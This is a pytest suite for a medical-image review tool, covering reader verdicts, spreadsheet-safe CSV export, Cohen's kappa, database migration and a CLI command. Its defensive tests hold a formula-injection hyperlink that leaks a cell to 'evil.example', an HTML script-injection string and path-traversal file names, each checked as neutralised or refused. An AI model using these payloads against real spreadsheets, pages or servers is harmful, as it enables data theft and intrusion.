"""Case reviews: several readers and methods per case, the spreadsheet-safe CSV export, Cohen's kappa,
the migration of version-1 review tables, and the ``calibprompt reviews`` command."""
from __future__ import annotations

import csv
import math
import random
import sqlite3
import time
from pathlib import Path

import pytest
from sklearn.metrics import cohen_kappa_score

from calibprompt.evaluation.agreement import cohen_kappa, pair_agreement, percent_agreement
from calibprompt.runs import store as store_mod
from calibprompt.runs.reviews import REVIEW_CSV_COLUMNS, VERDICTS, csv_cell
from calibprompt.runs.store import RunStore

EXPECTED_COLUMNS = ["image", "true_class", "method", "prediction", "confidence", "verdict", "note", "reader", "model",
                    "task", "dataset", "run_id", "reviewed_at"]


@pytest.fixture()
def store(tmp_path) -> RunStore:
    return RunStore(tmp_path / "runs.db")


def review(store: RunStore, **fields) -> dict:
    """set_review with defaults for the fields a test does not care about."""
    values = {"reader": "dr a", "dataset": "kather-demo", "image": "TUM/0001.png", "method": "coop",
              "verdict": "agree"} | fields
    return store.set_review(**values)


def read_csv(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


# ------------------------------------------------------------------------------------------- verdicts

def test_two_readers_on_one_case_are_both_kept(store):
    review(store, reader="dr a", verdict="agree")
    review(store, reader="dr b", verdict="disagree", note="looks like stroma")
    rows = store.reviews(image="TUM/0001.png")
    assert {r["reader"]: r["verdict"] for r in rows} == {"dr a": "agree", "dr b": "disagree"}
    assert [r["reader"] for r in store.reviews(reader="dr b")] == ["dr b"]


def test_same_reader_again_updates_the_verdict(store):
    first = review(store, verdict="agree", note="first look", confidence=0.8, prediction="TUM")
    time.sleep(0.002)
    second = review(store, verdict="Disagree ", note="second look", confidence=0.9, prediction="STR",
                    true_class="TUM", model="demo", task="demo")
    assert second["verdict"] == "disagree" and second["note"] == "second look"
    assert second["reviewed_at"] > first["reviewed_at"]
    rows = store.reviews()
    assert len(rows) == 1 and rows[0] == second
    assert set(second) == {"owner", "reader", "dataset", "image", "method", "verdict", "note", "true_class",
                           "prediction", "confidence", "model", "task", "run_id", "reviewed_at"}
    assert second["owner"] == ""  # the operator's (no owner given)
    assert (second["true_class"], second["prediction"], second["confidence"], second["model"], second["task"]) == (
        "TUM", "STR", 0.9, "demo", "demo")
    # the image key is normalised, so the same file spelled differently is the same case
    review(store, image="./TUM//0001.png", verdict="unsure")
    assert [r["verdict"] for r in store.reviews()] == ["unsure"]


def test_different_methods_and_datasets_are_separate_rows(store):
    review(store, method="coop", verdict="agree")
    review(store, method="calibprompt", verdict="disagree")
    review(store, dataset="other", method="coop", verdict="unsure")
    assert len(store.reviews()) == 3
    assert {r["method"]: r["verdict"] for r in store.reviews(dataset="kather-demo")} == {
        "coop": "agree", "calibprompt": "disagree"}
    assert [r["verdict"] for r in store.reviews(dataset="other", method="coop")] == ["unsure"]
    assert store.reviews(reader="nobody") == []


def test_review_tied_to_a_run(store):
    run_id = store.create_run("evaluate", {})
    assert review(store, run_id=run_id)["run_id"] == run_id
    with pytest.raises(ValueError, match="No run 'nope'"):
        review(store, run_id="nope")


@pytest.mark.parametrize("fields, message", [
    ({"verdict": "maybe"}, "expected one of: agree, disagree, unsure"),
    ({"verdict": None}, "expected one of: agree, disagree, unsure"),
    ({"reader": "  "}, "reader must not be empty: give the reader's name"),
    ({"method": ""}, "method must not be empty: give the method"),
    ({"image": ""}, "image must not be empty: give the image's path inside the dataset"),
    ({"image": "/srv/data/kather/TUM/0001.png"}, "is an absolute path; give the path inside the dataset"),
    ({"image": "C:/data/TUM/0001.png"}, "is an absolute path"),
    ({"image": "../secrets/TUM.png"}, "contains '..'"),
    ({"image": "TUM/../../x.png"}, "contains '..'"),
    ({"image": "TUM\\0001.png"}, "forward slashes"),
    ({"image": "."}, "names no file"),
    ({"confidence": 1.5}, r"confidence must be a probability in \[0, 1\]"),
    ({"confidence": "0.9"}, "confidence must be a number"),
    ({"note": 3}, "note must be a string"),
])
def test_bad_reviews_are_refused(store, fields, message):
    with pytest.raises(ValueError, match=message):
        review(store, **fields)
    assert store.reviews() == []


def test_set_review_is_keyword_only(store):
    with pytest.raises(TypeError):
        store.set_review("dr a", "d", "a.png", "coop", "agree")  # type: ignore[misc]


# --------------------------------------------------------------------------------------------- export

def test_export_columns_order_and_values(store, tmp_path):
    run_id = store.create_run("evaluate", {})
    review(store, reader="dr b", true_class="TUM", prediction="STR", confidence=0.97, verdict="disagree",
           note='missed the "lesion", left lobe\nsecond line', model="demo", task="demo", run_id=run_id)
    review(store, reader="dr a", verdict="agree")
    review(store, reader="dr a", dataset="other", image="NORM/7.png", verdict="unsure")
    assert REVIEW_CSV_COLUMNS == tuple(EXPECTED_COLUMNS) == store_mod.REVIEW_CSV_COLUMNS

    out = store.export_reviews_csv(tmp_path / "out" / "reviews.csv")
    text = out.read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(EXPECTED_COLUMNS)
    rows = read_csv(out)
    assert [(r["dataset"], r["image"], r["reader"]) for r in rows] == [
        ("kather-demo", "TUM/0001.png", "dr a"), ("kather-demo", "TUM/0001.png", "dr b"), ("other", "NORM/7.png", "dr a")]
    b = rows[1]
    assert b == {"image": "TUM/0001.png", "true_class": "TUM", "method": "coop", "prediction": "STR",
                 "confidence": "0.9700", "verdict": "disagree", "note": 'missed the "lesion", left lobe\nsecond line',
                 "reader": "dr b", "model": "demo", "task": "demo", "dataset": "kather-demo", "run_id": run_id,
                 "reviewed_at": b["reviewed_at"]}
    assert b["reviewed_at"].endswith("+00:00")
    assert rows[0]["confidence"] == "" and rows[0]["run_id"] == ""
    assert not list(tmp_path.glob("out/*.tmp"))  # atomic write leaves nothing behind

    assert [r["reader"] for r in read_csv(store.export_reviews_csv(tmp_path / "a.csv", reader="dr a"))] == ["dr a"] * 2
    assert len(read_csv(store.export_reviews_csv(tmp_path / "o.csv", dataset="other"))) == 1
    assert read_csv(store.export_reviews_csv(tmp_path / "none.csv", reader="nobody")) == []


@pytest.mark.parametrize("payload", ['=HYPERLINK("x")', "+1", "-2", "@cmd", "\tx", "\rx"])
def test_export_neutralises_formulas_in_notes_and_image_names(store, tmp_path, payload):
    name = payload.strip()  # names are stored stripped; notes as typed
    review(store, note=payload, image=f"{name}.png", reader=name, true_class=name, prediction=name, model=name,
           task=name, dataset=name)
    row = read_csv(store.export_reviews_csv(tmp_path / "r.csv"))[0]
    assert row["note"] == "'" + payload.replace("\r", "\n")  # a bare CR would split the CSV row
    quoted = "'" + name if name[0] in "=+-@" else name
    for column in ("true_class", "prediction", "model", "task", "dataset", "reader"):
        assert row[column] == quoted
    assert row["image"] == quoted + ".png"
    for value in row.values():  # no cell starts with a formula character any more
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_export_neutralises_a_real_looking_hyperlink(store, tmp_path):
    note = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    review(store, note=note)
    assert read_csv(store.export_reviews_csv(tmp_path / "r.csv"))[0]["note"] == "'" + note


def test_csv_cell_keeps_numbers_numeric():
    assert csv_cell(0.97) == "0.9700" and csv_cell(1.0) == "1.0000" and csv_cell(0.0) == "0.0000"
    assert csv_cell(None) == "" and csv_cell("plain") == "plain" and csv_cell("a=b") == "a=b"
    assert csv_cell("-0.5") == "'-0.5"  # text that looks like a negative number is still text
    assert csv_cell("\r=cmd") == "'\n=cmd" and csv_cell("a\r\nb\rc") == "a\nb\nc"


def test_export_keeps_rows_whole_with_carriage_returns(store, tmp_path):
    review(store, reader="dr a", note="line one\rline two\r\nthree")
    review(store, reader="dr b", note="\r=1+1")
    rows = read_csv(store.export_reviews_csv(tmp_path / "r.csv"))
    assert [(r["reader"], r["note"]) for r in rows] == [("dr a", "line one\nline two\nthree"), ("dr b", "'\n=1+1")]


def test_export_shows_no_server_paths_for_migrated_rows(tmp_path):
    db = tmp_path / "old.db"
    make_v1_database(db, [(None, "/srv/private/kather/TUM/0001.png", "agree", "", "dr a", "2026-01-01T00:00:00")])
    store = RunStore(db)
    assert store.reviews()[0]["image"] == "/srv/private/kather/TUM/0001.png"  # kept as stored
    rows = read_csv(store.export_reviews_csv(tmp_path / "r.csv"))
    assert rows[0]["image"] == "0001.png"


# ------------------------------------------------------------------------------------------ agreement

def test_cohen_kappa_hand_worked_example():
    # 50 cases: both "yes" 20, both "no" 15, a yes / b no 5, a no / b yes 10.
    # p_o = 35/50 = 0.7; a says yes 25/50, b 30/50; p_e = 0.5*0.6 + 0.5*0.4 = 0.5; kappa = 0.2/0.5 = 0.4.
    a = ["yes"] * 20 + ["no"] * 15 + ["yes"] * 5 + ["no"] * 10
    b = ["yes"] * 20 + ["no"] * 15 + ["no"] * 5 + ["yes"] * 10
    assert cohen_kappa(a, b) == pytest.approx(0.4)
    assert cohen_kappa(a, a) == 1.0
    assert cohen_kappa(["x", "y"], ["y", "x"]) == pytest.approx(-1.0)
    assert cohen_kappa(a, b, labels=["yes", "no", "unsure"]) == pytest.approx(0.4)  # unused labels change nothing


@pytest.mark.parametrize("seed", range(12))
def test_cohen_kappa_matches_sklearn(seed):
    rng = random.Random(seed)
    labels = list(VERDICTS[: rng.randint(2, 3)])
    n = rng.randint(2, 60)
    a = [rng.choice(labels) for _ in range(n)]
    # correlated readers: b copies a with some probability
    b = [x if rng.random() < rng.random() else rng.choice(labels) for x in a]
    expected = cohen_kappa_score(a, b, labels=labels)
    ours = cohen_kappa(a, b, labels=labels)
    if math.isnan(expected):
        assert math.isnan(ours)
    else:
        assert ours == pytest.approx(expected, abs=1e-12)
        assert cohen_kappa(a, b) == pytest.approx(cohen_kappa_score(a, b), abs=1e-12)


def test_cohen_kappa_undefined_and_bad_input():
    assert math.isnan(cohen_kappa(["agree"] * 3, ["agree"] * 3))  # p_e == 1
    with pytest.raises(ValueError, match="same cases: got 2 and 1"):
        cohen_kappa(["a", "b"], ["a"])
    with pytest.raises(ValueError, match="empty"):
        cohen_kappa([], [])
    with pytest.raises(ValueError, match="not in labels"):
        cohen_kappa(["a", "b"], ["a", "c"], labels=["a", "b"])
    with pytest.raises(ValueError, match="not one string"):
        cohen_kappa("ab", "ab")


def test_reader_agreement(store):
    cases = [f"TUM/{i}.png" for i in range(4)]
    for image, va, vb in zip(cases, ["agree", "agree", "disagree", "unsure"], ["agree", "disagree", "disagree",
                                                                              "unsure"]):
        review(store, reader="dr a", image=image, verdict=va)
        review(store, reader="dr b", image=image, verdict=vb)
    review(store, reader="dr c", image=cases[0], verdict="agree")  # one common case with a and b
    review(store, reader="dr a", image=cases[0], method="calibprompt", verdict="agree")  # nobody else: no pair
    review(store, reader="dr d", dataset="other", image="x.png", verdict="agree")  # no common case at all

    pairs = store.reader_agreement()
    assert [(p["reader_a"], p["reader_b"], p["cases"]) for p in pairs] == [
        ("dr a", "dr b", 4), ("dr a", "dr c", 1), ("dr b", "dr c", 1)]
    expected = cohen_kappa_score(["agree", "agree", "disagree", "unsure"], ["agree", "disagree", "disagree", "unsure"])
    assert pairs[0]["kappa"] == pytest.approx(expected)
    assert pairs[1]["kappa"] is None and pairs[2]["kappa"] is None  # fewer than 2 common cases
    assert store.reader_agreement(method="calibprompt") == []
    assert store.reader_agreement(dataset="other") == []

    # two readers who both said "agree" to everything: p_e = 1, kappa undefined -> None
    for image in ("NORM/1.png", "NORM/2.png"):
        review(store, reader="dr e", dataset="same", image=image, verdict="agree")
        review(store, reader="dr f", dataset="same", image=image, verdict="agree")
    assert store.reader_agreement(dataset="same") == [{"reader_a": "dr e", "reader_b": "dr f", "cases": 2,
                                                       "agreed": 2, "percent": 1.0, "kappa": None, "few": True}]


def test_two_readers_agreeing_on_2_of_3_cases_get_67_percent_beside_kappa():
    # b said "agree" to all three: p_o = 2/3, p_e = (2/3)(3/3) + (1/3)(0/3) = 2/3, kappa = 0 / (1/3) = 0.
    stats = pair_agreement(["agree", "agree", "disagree"], ["agree", "agree", "agree"], labels=VERDICTS)
    assert stats == {"cases": 3, "agreed": 2, "percent": pytest.approx(2 / 3), "kappa": pytest.approx(0.0),
                     "few": True}
    # a: agree 2, disagree 1; b: agree 1, disagree 2; p_o = 2/3, p_e = (2/3)(1/3) + (1/3)(2/3) = 4/9,
    # kappa = (6/9 - 4/9) / (5/9) = 0.4
    a, b = ["agree", "disagree", "agree"], ["agree", "disagree", "disagree"]
    assert pair_agreement(a, b)["kappa"] == pytest.approx(0.4) == cohen_kappa_score(a, b)
    assert percent_agreement(a, b) == pytest.approx(2 / 3)
    assert pair_agreement(["agree"], ["unsure"]) == {"cases": 1, "agreed": 0, "percent": 0.0, "kappa": None,
                                                     "few": True}
    many = pair_agreement(a * 7, b * 7)
    assert many["cases"] == 21 and not many["few"] and many["kappa"] == pytest.approx(0.4)
    with pytest.raises(ValueError, match="same cases"):
        percent_agreement(["agree"], [])


def test_reader_agreement_reports_percent_and_few_cases(store):
    for image, va, vb in (("a.png", "agree", "agree"), ("b.png", "agree", "agree"), ("c.png", "disagree", "agree")):
        review(store, reader="dr a", image=image, verdict=va)
        review(store, reader="dr b", image=image, verdict=vb)
    [pair] = store.reader_agreement()
    assert (pair["cases"], pair["agreed"], pair["few"]) == (3, 2, True)
    assert pair["percent"] == pytest.approx(2 / 3) and pair["kappa"] == pytest.approx(0.0)


# ------------------------------------------------------------------------ listing, paging and filters

def _evaluation(n: int = 900, seed: int = 0):
    """A synthetic evaluation of two methods on ``n`` images of the 9-class demo task."""
    import numpy as np

    from calibprompt.prompting.tasks import load_task
    from calibprompt.service.evaluation import EvaluationSet

    rng = np.random.default_rng(seed)
    task = load_task("demo")
    labels = rng.integers(0, 9, size=n)
    probs = {h: rng.dirichlet(np.full(9, 0.3), size=n) for h in ("zero-shot", "coop")}
    images = [f"{task.class_ids[y]}/{i:04d}.png" for i, y in enumerate(labels)]
    return EvaluationSet(dataset="demo", root=Path("/nonexistent"), task=task, paths=[f"/nonexistent/{x}" for x in images],
                         images=images, labels=labels, probs=probs)


class _FakeCore:
    """What the review service uses of the Core: a store, evaluate and prediction sets."""

    def __init__(self, store, ev):
        self.store, self.ev = store, ev

    def evaluate(self, state, dataset, heads=()):
        return self.ev

    @staticmethod
    def cross_fitted_sets(ev, alpha):
        return None


def _state(reader="dr a"):
    """A logged-in reader's session (``user:<reader>``): logged-in readers see each other's verdicts (team review)."""
    from calibprompt.service.session import SessionState

    owner = f"user:{reader}" if reader else "browser:" + "0" * 32
    return SessionState(model="demo", task="demo", reader=reader, owner=owner)


def test_every_confidently_wrong_case_is_counted_ranked_and_named():
    import numpy as np

    from calibprompt.service.reviews import rank_cases

    ev = _evaluation()
    cases = rank_cases(ev, None, min_confidence=0.0)
    wrong = {h: ev.probs[h].argmax(1) != ev.labels for h in ev.probs}
    assert len(cases) == int((wrong["zero-shot"] | wrong["coop"]).sum()) > 400  # a true count, not a cap of 48
    assert [c["rank"] for c in cases] == list(range(1, len(cases) + 1))
    assert [c["score"] for c in cases] == sorted((c["score"] for c in cases), reverse=True)
    case = cases[0]
    assert case["true_name"] == ev.task.classnames[ev.task.class_ids.index(case["true"])]
    assert set(case["prediction_names"].values()) <= set(ev.task.classnames)  # names, not folder ids
    only_zero = rank_cases(ev, None, method="zero-shot", min_confidence=0.5)
    expected = int((wrong["zero-shot"] & (ev.probs["zero-shot"].max(1) >= 0.5)).sum())
    assert len(only_zero) == expected and all(c["method"] == "zero-shot" for c in only_zero)
    by_name = rank_cases(ev, None, true_class="mucus")
    assert by_name and by_name == rank_cases(ev, None, true_class="MUC")
    assert all(c["true"] == "MUC" and c["true_name"] == "mucus" for c in by_name)
    assert len(by_name) == int(((wrong["zero-shot"] | wrong["coop"]) & (ev.labels == 4)).sum())
    with pytest.raises(ValueError, match="minimum confidence"):
        rank_cases(ev, None, min_confidence=float("nan"))
    with pytest.raises(ValueError, match="not among the chosen prompts"):
        rank_cases(ev, None, method="calibprompt")
    assert np.isclose(cases[-1]["score"], min(c["score"] for c in cases))


@pytest.mark.parametrize("total, page, expected", [
    (412, 0, {"page": 0, "pages": 18, "start": 0, "stop": 24}),
    (412, 1, {"page": 1, "pages": 18, "start": 24, "stop": 48}),  # "cases 25-48 of 412"
    (412, 17, {"page": 17, "pages": 18, "start": 408, "stop": 412}),
    (412, 99, {"page": 17, "pages": 18, "start": 408, "stop": 412}),  # clamped
    (412, -3, {"page": 0, "pages": 18, "start": 0, "stop": 24}),
    (48, 1, {"page": 1, "pages": 2, "start": 24, "stop": 48}),
    (0, 0, {"page": 0, "pages": 1, "start": 0, "stop": 0}),
])
def test_pages_reach_every_case(total, page, expected):
    from calibprompt.service.reviews import page_of

    assert page_of(total, page) == expected


def test_paging_covers_every_case_once():
    from calibprompt.service.reviews import page_of

    seen = []
    pages = page_of(412, 0)["pages"]
    for p in range(pages):
        window = page_of(412, p)
        seen += range(window["start"], window["stop"])
    assert seen == list(range(412))
    with pytest.raises(ValueError, match="per_page"):
        page_of(10, 0, per_page=0)


def test_reader_filters_mine_todo_and_disagreements(store):
    from calibprompt.service.reviews import filter_cases, find_cases, progress, refresh_cases, save_review

    core = _FakeCore(store, _evaluation(200))
    ann, bob = _state("ann"), _state("bob")
    found = find_cases(core, ann, "demo", min_confidence=0.0)
    assert found.cases == found.wrong and len(found.wrong) > 48
    first, second, third = found.wrong[:3]
    save_review(core, ann, "demo", first, first["method"], "agree", "clear <b>case</b>")
    save_review(core, ann, "demo", second, second["method"], "unsure")
    save_review(core, bob, "demo", first, first["method"], "disagree")  # differs from ann: a disagreement
    save_review(core, bob, "demo", second, second["method"], "unsure")  # same as ann
    save_review(core, bob, "demo", third, third["method"], "agree")  # only bob

    row = store.reviews(reader="ann", image=first["image"])[0]
    assert row["true_class"] == first["true_name"] and row["prediction"] in _evaluation().task.classnames
    assert row["note"] == "clear <b>case</b>"  # stored as typed; the tab escapes it

    again = find_cases(core, ann, "demo", min_confidence=0.0)
    assert [c["image"] for c in filter_cases(again.wrong, "mine")] == [first["image"], second["image"]]
    todo = find_cases(core, ann, "demo", min_confidence=0.0, reader_filter="todo").cases
    assert len(todo) == len(again.wrong) - 2 and first["image"] not in {c["image"] for c in todo}
    assert [c["image"] for c in filter_cases(again.wrong, "disagreements")] == [first["image"]]
    assert progress(again.wrong) == {"reviewed": 2, "listed": len(again.wrong)}
    assert progress(find_cases(core, bob, "demo", min_confidence=0.0).cases)["reviewed"] == 3
    # the list of one Find, refreshed after another reader's verdict
    save_review(core, bob, "demo", third, third["method"], "disagree")
    shown = refresh_cases(core, ann, "demo", again.wrong, "disagreements")
    assert [c["image"] for c in shown] == [first["image"]]
    with pytest.raises(ValueError, match="Enter your name as the reader first"):
        find_cases(core, _state(""), "demo", reader_filter="mine")
    with pytest.raises(ValueError, match="Unknown reader filter"):
        filter_cases(again.wrong, "everything")
    with pytest.raises(ValueError, match="Select a case first"):
        save_review(core, ann, "demo", None, "coop", "agree")


def test_disagreements_list_readers_and_verdicts(store):
    from calibprompt.service.reviews import disagreements, find_cases, save_review

    core = _FakeCore(store, _evaluation(120))
    found = find_cases(core, _state("ann"), "demo", min_confidence=0.0)
    case = found.wrong[0]
    save_review(core, _state("ann"), "demo", case, case["method"], "agree", "fine")
    save_review(core, _state("bob"), "demo", case, case["method"], "disagree", "no")
    save_review(core, _state("bob"), "demo", found.wrong[1], found.wrong[1]["method"], "agree")
    [item] = disagreements(core, _state("ann"), "demo", found.root, found.wrong)
    assert item["image"] == case["image"] and item["method"] == case["method"]
    assert item["true_class"] == case["true_name"] and item["path"] == case["path"]
    assert item["readers"] == [{"reader": "ann", "verdict": "agree", "note": "fine"},
                               {"reader": "bob", "verdict": "disagree", "note": "no"}]
    [unknown] = disagreements(core, _state("bob"), "demo")  # without the listing: names as stored, no file
    assert unknown["path"] is None and unknown["true_class"] == case["true_name"]


def test_the_tab_escapes_reader_names_and_notes_and_blinds_cases():
    from calibprompt.app import review_tab

    pairs = [{"reader_a": "<img src=x onerror=alert(1)>", "reader_b": "dr b", "cases": 3, "agreed": 2,
              "percent": 2 / 3, "kappa": 0.0, "few": True}]
    text = review_tab.agreement_html(pairs)
    assert "<img" not in text and "&lt;img src=x" in text
    assert "agreed on 2 of 3 shared cases (67 %)" in text and "Cohen's kappa 0.00" in text
    assert "fewer than 20 shared cases" in text
    case = {"rank": 7, "image": "MUC/<b>1</b>.png", "true": "MUC", "true_name": "mucus", "method": "coop",
            "predictions": {"coop": ("ADI", 0.97), "zero-shot": ("MUC", 0.6)},
            "prediction_names": {"coop": "adipose tissue", "zero-shot": "mucus"}, "sets": {}, "referred": True,
            "verdicts": {}, "readers": {}}
    listing = {"shown": [case], "selected": 0, "seq": 3}
    blind = review_tab.case_html(listing, blinded=True)
    assert "adipose tissue" in blind and "mucus" not in blind and "97" not in blind and "<b>1" not in blind
    case["verdicts"] = {"coop": {"verdict": "agree", "note": "<script>x</script>"}}
    shown = review_tab.case_html(listing, blinded=True)  # revealed once this reader gave a verdict
    assert "True class: <strong>mucus</strong>" in shown and "97.0 %" in shown
    assert "<script>" not in shown and "&lt;script&gt;" in shown
    assert "ADI" not in shown and "MUC</" not in shown  # class names, not folder ids
    assert review_tab.caption(case, blinded=False) == "#7 · 97.0 % adipose tissue · true: mucus · ✓ agree"
    assert review_tab.caption({**case, "verdicts": {}}, blinded=True) == "#7"


# ------------------------------------------------------------------------------------------ migration

# The schema of version 1, copied from the code that wrote it (runs and reviews tables).
V1_SCHEMA = """
CREATE TABLE IF NOT EXISTS runs (
    id          TEXT PRIMARY KEY,
    kind        TEXT NOT NULL CHECK (kind IN ('train', 'evaluate')),
    status      TEXT NOT NULL CHECK (status IN ('queued', 'running', 'done', 'failed', 'cancelled', 'interrupted')),
    created_at  TEXT NOT NULL,
    started_at  TEXT,
    finished_at TEXT,
    params      TEXT NOT NULL DEFAULT '{}',
    metrics     TEXT,
    progress    TEXT,
    checkpoint  TEXT,
    error       TEXT,
    device      TEXT,
    pid         INTEGER,
    host        TEXT,
    pid_start   TEXT
);
CREATE INDEX IF NOT EXISTS runs_by_status ON runs (status);
CREATE INDEX IF NOT EXISTS runs_by_created ON runs (created_at);
CREATE TABLE IF NOT EXISTS predictions (
    run_id      TEXT NOT NULL REFERENCES runs (id) ON DELETE CASCADE,
    idx         INTEGER NOT NULL,
    path        TEXT,
    label       INTEGER,
    predicted   INTEGER NOT NULL,
    confidence  REAL NOT NULL,
    probs       TEXT NOT NULL,
    PRIMARY KEY (run_id, idx)
) WITHOUT ROWID;
CREATE TABLE IF NOT EXISTS reviews (
    id          INTEGER PRIMARY KEY,
    run_id      TEXT REFERENCES runs (id) ON DELETE CASCADE,
    image       TEXT NOT NULL,
    verdict     TEXT NOT NULL CHECK (verdict IN ('agree', 'disagree', 'unsure')),
    note        TEXT NOT NULL DEFAULT '',
    reviewer    TEXT NOT NULL DEFAULT '',
    updated_at  TEXT NOT NULL,
    UNIQUE (run_id, image)
);
CREATE UNIQUE INDEX IF NOT EXISTS reviews_one_per_image ON reviews (IFNULL(run_id, ''), image);
"""


def make_v1_database(db: Path, reviews: list[tuple], runs: tuple[str, ...] = ()) -> None:
    """A database as version 1 left it; ``reviews`` rows are (run_id, image, verdict, note, reviewer, updated_at)."""
    conn = sqlite3.connect(db)
    with conn:
        conn.executescript(V1_SCHEMA)
        for run_id in runs:
            conn.execute("INSERT INTO runs (id, kind, status, created_at) VALUES (?, 'evaluate', 'done', ?)",
                         (run_id, "2026-01-01T00:00:00"))
        conn.executemany("INSERT INTO reviews (run_id, image, verdict, note, reviewer, updated_at) "
                         "VALUES (?, ?, ?, ?, ?, ?)", reviews)
        conn.execute("PRAGMA user_version = 1")
    conn.close()


def test_migrates_a_version_1_database_and_keeps_its_reviews(tmp_path):
    db = tmp_path / "old.db"
    make_v1_database(db, [
        ("run-1", "img/1.png", "agree", "looks right", "dr a", "2026-01-01T10:00:00"),
        ("run-2", "img/1.png", "disagree", "other run", "dr a", "2026-01-02T10:00:00"),  # same reviewer and image
        (None, "img/2.png", "unsure", "", "", "2026-01-03T10:00:00"),  # no reviewer, no run
        (None, "=HYPERLINK(\"x\")", "agree", "-2", "  ", "2026-01-04T10:00:00"),
    ], runs=("run-1", "run-2"))

    store = RunStore(db)
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == store_mod.SCHEMA_VERSION == 3
        assert conn.execute("PRAGMA foreign_key_check").fetchall() == []
    rows = {(r["reader"], r["image"], r["run_id"]): r for r in store.reviews()}
    assert len(rows) == 4
    newest = rows[("dr a", "img/1.png", "run-2")]
    older = rows[("dr a", "img/1.png", "run-1")]
    assert (newest["method"], newest["verdict"], newest["note"]) == ("unknown", "disagree", "other run")
    assert (older["method"], older["verdict"]) == ("unknown (run run-1)", "agree")  # kept, not overwritten
    assert rows[("unknown", "img/2.png", None)]["method"] == "unknown"
    for row in rows.values():
        assert row["dataset"] == "" and row["confidence"] is None and row["true_class"] == ""
    assert newest["reviewed_at"] == "2026-01-02T10:00:00"

    # the migrated store works with the new API, and reopening does not migrate again
    review(store, reader="dr a", dataset="", image="img/2.png", method="unknown", verdict="agree")
    store.set_review(reader="dr b", dataset="d", image="img/1.png", method="coop", verdict="agree", run_id="run-1")
    store.delete_run("run-1")
    again = RunStore(db)
    assert len(again.reviews()) == 6
    assert {r["run_id"] for r in again.reviews()} == {None, "run-2"}  # the deleted run's verdicts are kept
    with sqlite3.connect(db) as conn:
        tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert "reviews_v2" not in tables and "reviews" in tables


def test_failed_migration_leaves_the_old_database_untouched(tmp_path, monkeypatch):
    db = tmp_path / "old.db"
    make_v1_database(db, [(None, "img/1.png", "agree", "", "dr a", "2026-01-01T10:00:00")])
    broken = dict(store_mod._MIGRATIONS)
    broken[2] = broken[2] + ";\nSELECT * FROM no_such_table"
    monkeypatch.setattr(store_mod, "_MIGRATIONS", broken)
    with pytest.raises(ValueError, match="Cannot open the run store"):
        RunStore(db)
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 1
        assert conn.execute("SELECT reviewer, image FROM reviews").fetchall() == [("dr a", "img/1.png")]
    monkeypatch.undo()
    assert RunStore(db).reviews()[0]["reader"] == "dr a"


def test_new_database_has_the_new_table(tmp_path):
    store = RunStore(tmp_path / "new.db")
    with sqlite3.connect(store.path) as conn:
        columns = [r[1] for r in conn.execute("PRAGMA table_info(reviews)")]
    assert set(columns) == {"id", "owner", *EXPECTED_COLUMNS}  # the owner is stored, not exported


# ------------------------------------------------------------------------------------------------ CLI

def test_cli_reviews_csv_and_table(tmp_path, monkeypatch, capsys):
    from calibprompt.cli import main

    monkeypatch.setenv("CALIBPROMPT_HOME", str(tmp_path / "home"))
    assert main(["reviews"]) == 0
    assert "no reviews yet" in capsys.readouterr().out

    store = RunStore()  # the same default store as the command's
    assert store.path == (tmp_path / "home" / "runs.db").resolve()
    for image, va, vb in (("TUM/1.png", "agree", "agree"), ("TUM/2.png", "disagree", "agree")):
        review(store, reader="dr a", image=image, verdict=va, note="=1+1\nsecond line")
        review(store, reader="dr b", image=image, verdict=vb)
    review(store, reader="dr a", dataset="other", image="x.png", verdict="unsure")

    out = tmp_path / "exports" / "reviews.csv"
    assert main(["reviews", "--csv", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "wrote 5 reviews to" in printed and str(out) in printed
    rows = read_csv(out)
    assert len(rows) == 5 and list(rows[0]) == EXPECTED_COLUMNS
    assert {r["note"] for r in rows if r["note"]} == {"'=1+1\nsecond line"}

    only = tmp_path / "only.csv"
    assert main(["reviews", "--csv", str(only), "--reader", "dr a", "--dataset", "kather-demo"]) == 0
    assert "wrote 2 reviews" in capsys.readouterr().out
    assert {(r["reader"], r["dataset"]) for r in read_csv(only)} == {("dr a", "kather-demo")}

    assert main(["reviews", "--dataset", "kather-demo"]) == 0
    table = capsys.readouterr().out
    assert "TUM/1.png" in table and "x.png" not in table and "reader agreement" in table
    assert "dr a      dr b      2      0.000" in table  # p_o = 0.5 = p_e
    assert main(["reviews", "--reader", "nobody"]) == 0
    assert "no reviews matching the filters" in capsys.readouterr().out
